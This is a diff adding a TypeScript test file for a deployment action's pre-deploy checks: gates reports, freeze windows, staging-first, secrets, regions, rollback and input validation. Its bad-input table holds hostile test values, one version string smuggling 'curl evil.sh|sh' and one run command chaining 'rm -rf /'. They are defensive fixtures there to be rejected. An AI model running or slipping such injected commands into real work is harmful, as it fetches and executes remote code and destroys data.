@@ -1,0 +1,202 @@
+/**
+ * deploy, bundled and run as the runner runs it, with the local ledger: every pre-deploy check
+ * trips and nothing runs; bad input is one line naming the input and changes nothing.
+ */
+import { existsSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
+import path from 'node:path';
+import { runAction, commandMessage, type ActionRun } from '../support/action.js';
+import { deployWorkspace, gatesReport, ledger, ran, SHA } from './support.js';
+
+const BASE = { environment: 'staging', version: 'v1.0.0', run: './mark.sh run', 'rollback-run': './mark.sh rollback', 'freeze-windows': 'none' };
+
+function deploy(ws: string, inputs: Record<string, string>, env: Record<string, string> = {}): Promise<ActionRun> {
+  return runAction('deploy', { workspace: ws, inputs: { ...BASE, ...inputs }, env: { GITHUB_SHA: SHA, ...env } });
+}
+
+/** Nothing ran and nothing was recorded. */
+function nothingRan(ws: string): void {
+  expect(ran(ws, 'run')).toBe(false);
+  expect(ran(ws, 'rollback')).toBe(false);
+  expect(ledger(ws).filter((e) => e.type === 'deployment')).toEqual([]);
+}
+
+function checkRow(run: ActionRun, title: string): string {
+  return run.summary.split('\n').find((l) => l.startsWith(`| ${title} |`)) ?? '';
+}
+
+describe('deploy pre-deploy checks (ledger)', () => {
+  it('deploys when every check passes, with the PHASE_GATES_* variables', async () => {
+    const ws = deployWorkspace();
+    const run = await deploy(ws, {});
+    expect(run.code).toBe(0);
+    expect(run.outputs).toMatchObject({ status: 'success', version: 'v1.0.0', 'previous-version': '', 'deployment-id': '1', 'rollback-performed': 'false', 'log-path': 'ci/deploy-logs.txt' });
+    expect(readFileSync(path.join(ws, 'ran/run'), 'utf8')).toBe(
+      ['PHASE_GATES_DEPLOYMENT_ID=1', 'PHASE_GATES_ENVIRONMENT=staging', 'PHASE_GATES_MODE=deploy', 'PHASE_GATES_PREVIOUS_VERSION=', 'PHASE_GATES_SLOT=', 'PHASE_GATES_TRAFFIC_PERCENT=100', 'PHASE_GATES_VERSION=v1.0.0', ''].join('\n')
+    );
+    expect(ledger(ws).map((e) => e.state ?? e.type)).toEqual(['deployment', 'in_progress', 'success']);
+    expect(run.summary).toMatch(/\| Rollback path \| ✅ pass \|/);
+    const log = readFileSync(path.join(ws, 'ci/deploy-logs.txt'), 'utf8').trim().split('\n');
+    for (const line of log) expect(line).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z (INFO|WARN|ERROR) [a-z.-]+( [a-z_]+=\S.*)?$/);
+    expect(log.at(-1)).toMatch(/ INFO deploy\.end status=success version=v1\.0\.0 deployment=1$/);
+  });
+
+  it('gates: refuses without a report where required, a failed report, and a report of another commit', async () => {
+    let ws = deployWorkspace();
+    let run = await deploy(ws, { 'require-gates': 'true' });
+    expect(run.code).toBe(1);
+    expect(checkRow(run, 'Gates passed')).toMatch(/❌ fail \| no gates report, required for staging/);
+    nothingRan(ws);
+
+    ws = deployWorkspace();
+    run = await deploy(ws, { 'gates-report': JSON.stringify(gatesReport({ passed: false, gates: [{ name: 'coverage', op: '>=', threshold: 80, unit: '%', actual: 70, passed: false, sources: [] }] })) });
+    expect(checkRow(run, 'Gates passed')).toMatch(/❌ fail \| the gates report failed: coverage/);
+    nothingRan(ws);
+
+    ws = deployWorkspace({ 'gates-report.json': JSON.stringify(gatesReport({ sha: 'f'.repeat(40) })) });
+    run = await deploy(ws, { 'gates-report': 'gates-report.json' });
+    expect(checkRow(run, 'Gates passed')).toMatch(/the report is for commit f{40}, not 0123/);
+    expect(run.errors.map(commandMessage)).toEqual([expect.stringMatching(/^pre-deploy checks failed: gates/)]);
+    nothingRan(ws);
+
+    ws = deployWorkspace({ 'gates-report.json': JSON.stringify(gatesReport()) });
+    run = await deploy(ws, { 'gates-report': 'gates-report.json', 'require-gates': 'true' });
+    expect(run.code).toBe(0);
+    expect(checkRow(run, 'Gates passed')).toMatch(/✅ pass \| passed for 0123456789ab \(gates-report.json\)/);
+  });
+
+  it('freeze: refuses on a Friday by default, and an override with a reason is recorded', async () => {
+    let ws = deployWorkspace();
+    const friday = { PHASE_GATES_NOW: '2026-11-27T15:00:00Z' };
+    let run = await deploy(ws, { 'freeze-windows': '' }, friday);
+    expect(run.code).toBe(1);
+    expect(checkRow(run, 'Outside freeze windows')).toMatch(/❌ fail \| Fri 2026-11-27 15:00 UTC \(PHASE_GATES_NOW\) is inside the freeze window "Fri 00:00-Mon 00:00"/);
+    nothingRan(ws);
+
+    ws = deployWorkspace();
+    run = await deploy(ws, { 'freeze-windows': '', 'freeze-override': 'hotfix INC-42, approved by @lead' }, friday);
+    expect(run.code).toBe(0);
+    expect(run.warnings.map(commandMessage)).toEqual(['Deploying inside a freeze window; override: hotfix INC-42, approved by @lead']);
+    const log = readFileSync(path.join(ws, 'ci/deploy-logs.txt'), 'utf8');
+    expect(log).toMatch(/ WARN freeze\.override reason="hotfix INC-42, approved by @lead"/);
+
+    // Dates in the zone of the timezone input: 23:30Z on the 23rd is the 24th in Berlin.
+    ws = deployWorkspace();
+    run = await deploy(ws, { 'freeze-windows': '2026-12-24..2026-12-26', timezone: 'Europe/Berlin' }, { PHASE_GATES_NOW: '2026-12-23T23:30:00Z' });
+    expect(checkRow(run, 'Outside freeze windows')).toMatch(/❌ fail \| Thu 2026-12-24 00:30 Europe\/Berlin/);
+    nothingRan(ws);
+  });
+
+  it('staging first: production needs a successful staging deployment of the same version', async () => {
+    const ws = deployWorkspace();
+    let run = await deploy(ws, { environment: 'production' });
+    expect(run.code).toBe(1);
+    expect(checkRow(run, 'Staging first')).toMatch(/❌ fail \| v1\.0\.0 has no successful deployment in staging \(ledger\)/);
+    nothingRan(ws);
+
+    expect((await deploy(ws, { environment: 'staging' })).code).toBe(0);
+    run = await deploy(ws, { environment: 'production', 'require-gates': 'false' });
+    expect(checkRow(run, 'Staging first')).toMatch(/✅ pass \| v1\.0\.0 succeeded in staging \(deployment 1\)/);
+    expect(run.code).toBe(0);
+  });
+
+  it('immutable version: refuses latest and branch names', async () => {
+    for (const version of ['latest', 'feature/login']) {
+      const ws = deployWorkspace();
+      const run = await deploy(ws, { version });
+      expect(run.code).toBe(1);
+      expect(checkRow(run, 'Immutable version')).toContain('❌ fail');
+      nothingRan(ws);
+    }
+  });
+
+  it('secrets: refuses a required secret that is unset or empty', async () => {
+    const ws = deployWorkspace();
+    const run = await deploy(ws, { 'required-secrets': 'DEPLOY_TOKEN, DB_PASSWORD' }, { DEPLOY_TOKEN: 'x-token-value', DB_PASSWORD: '' });
+    expect(run.code).toBe(1);
+    expect(checkRow(run, 'Required secrets')).toMatch(/❌ fail \| not set or empty: DB_PASSWORD \|/);
+    nothingRan(ws);
+  });
+
+  it('region: refuses a region outside allowed-regions', async () => {
+    const ws = deployWorkspace();
+    const run = await deploy(ws, { region: 'us-east-1', 'allowed-regions': 'eu-west-1, eu-central-1' });
+    expect(run.code).toBe(1);
+    expect(checkRow(run, 'Region allowed')).toMatch(/❌ fail \| us-east-1 is not in allowed-regions \(eu-west-1, eu-central-1\)/);
+    nothingRan(ws);
+  });
+
+  it('rollback path: refuses a first deploy without rollback-run', async () => {
+    const ws = deployWorkspace();
+    const run = await deploy(ws, { 'rollback-run': '' });
+    expect(run.code).toBe(1);
+    expect(checkRow(run, 'Rollback path')).toMatch(/❌ fail \| no rollback-run and no previous successful version of staging/);
+    nothingRan(ws);
+  });
+
+  it('lock: refuses while another deployment of the environment is in progress', async () => {
+    const ws = deployWorkspace();
+    mkdirSync(path.join(ws, '.phase-gates'));
+    const now = new Date().toISOString();
+    writeFileSync(
+      path.join(ws, '.phase-gates/deployments.jsonl'),
+      [
+        { type: 'deployment', id: '7', environment: 'staging', version: 'v0.9.0', sha: SHA, description: '', production: false, createdAt: now, pid: process.pid },
+        { type: 'status', deployment: '7', state: 'in_progress', description: '', createdAt: now, pid: process.pid }
+      ]
+        .map((e) => JSON.stringify(e))
+        .join('\n') + '\n'
+    );
+    const run = await deploy(ws, {});
+    expect(run.code).toBe(1);
+    expect(checkRow(run, 'No deployment in progress')).toMatch(/❌ fail \| deployment 7 of v0\.9\.0 to staging is still in_progress \(ledger\)/);
+    expect(ran(ws, 'run')).toBe(false);
+    expect(ledger(ws)).toHaveLength(2);
+  });
+
+  it('reports every failed check at once, in one table', async () => {
+    const ws = deployWorkspace();
+    const run = await deploy(ws, { environment: 'production', version: 'latest', 'freeze-windows': '', region: 'mars', 'allowed-regions': 'eu', 'rollback-run': '' }, { PHASE_GATES_NOW: '2026-11-28T12:00:00Z' });
+    expect(run.code).toBe(1);
+    const failed = run.summary.split('\n').filter((l) => l.includes('❌ fail')).map((l) => l.split(' | ')[0].slice(2));
+    expect(failed).toEqual(['Gates passed', 'Outside freeze windows', 'Staging first', 'Immutable version', 'Region allowed', 'Rollback path']);
+    expect(run.outputs.status).toBe('failure');
+    nothingRan(ws);
+  });
+
+  it('dry-run prints the plan and changes nothing', async () => {
+    const ws = deployWorkspace();
+    const run = await deploy(ws, { 'dry-run': 'true', 'migrate-run': './mark.sh migrate' });
+    expect(run.code).toBe(0);
+    expect(run.outputs.status).toBe('skipped');
+    expect(run.summary).toContain('### Plan');
+    expect(run.summary).toContain('2. migrations: `./mark.sh migrate`');
+    expect(run.summary).toContain('3. direct at 100%: `./mark.sh run`');
+    nothingRan(ws);
+    expect(ran(ws, 'migrate')).toBe(false);
+  });
+});
+
+describe('deploy bad input', () => {
+  const cases: Array<[string, Record<string, string>, RegExp]> = [
+    ['a missing run', { run: '' }, /^run: required for provider command and not supplied/],
+    ['bad freeze syntax', { 'freeze-windows': 'Fri 25:00-Mon 00:00' }, /^freeze-windows: not a freeze window: "Fri 25:00-Mon 00:00"/],
+    ['an unknown time zone', { timezone: 'Mars/Olympus_Mons' }, /^timezone: unknown time zone "Mars\/Olympus_Mons"/],
+    ['a malformed gates report', { 'gates-report': '{"schema": "phase-gates/gates-report@1", ' }, /^gates-report: not JSON/],
+    ['a foreign gates report', { 'gates-report': JSON.stringify({ schema: 'phase-gates/smoke-report@1', passed: true }) }, /^gates-report: not a phase-gates gates report \(a "phase-gates\/smoke-report@1" document\)/],
+    ['a gates report file that is SARIF', { 'gates-report': 'report.sarif' }, /^gates-report: report\.sarif: not a phase-gates gates report/],
+    ['a version with shell metacharacters', { version: 'v1.0.0;curl evil.sh|sh' }, /^version: holds the character ";", which a shell would interpret/],
+    ['a log path outside the workspace', { 'log-path': '../deploy-logs.txt' }, /^log-path: path escapes the workspace: \.\.\/deploy-logs\.txt/],
+    ['shell syntax in run', { run: './mark.sh && rm -rf /' }, /^run: shell syntax "&" is not supported/],
+    ['a script that does not exist', { run: './nope.sh' }, /^run: \.\/nope\.sh: no such file/]
+  ];
+  it.each(cases)('%s: one line naming the input, nothing changed', async (_name, inputs, message) => {
+    const ws = deployWorkspace({ 'report.sarif': JSON.stringify({ version: '2.1.0', runs: [] }) });
+    const run = await deploy(ws, inputs);
+    expect(run.code).toBe(1);
+    expect(run.errors.map(commandMessage)).toEqual([expect.stringMatching(message)]);
+    expect(run.stdout + run.stderr).not.toMatch(/\n\s+at /);
+    expect(existsSync(path.join(ws, 'ci'))).toBe(false);
+    expect(existsSync(path.join(ws, '.phase-gates'))).toBe(false);
+    nothingRan(ws);
+  });
+});
